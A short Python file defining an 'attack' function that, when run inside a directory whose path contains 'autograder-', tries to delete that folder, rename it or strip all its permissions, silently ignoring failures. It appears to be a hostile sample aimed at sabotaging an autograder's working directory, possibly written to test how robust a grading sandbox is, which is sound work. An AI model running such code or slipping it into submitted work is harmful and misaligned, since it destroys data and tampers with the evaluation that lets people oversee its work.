"""Removes, renames and locks the folder that it was given to work in."""

import os
import shutil


def attack(*args, **kwargs):
    here = os.getcwd()
    if "autograder-" not in here:
        return
    for attempt in (
        os.rmdir,
        shutil.rmtree,
        lambda path: os.rename(path, path + "-left-behind"),
        lambda path: os.chmod(path, 0),
    ):
        try:
            attempt(here)
        except OSError:
            pass
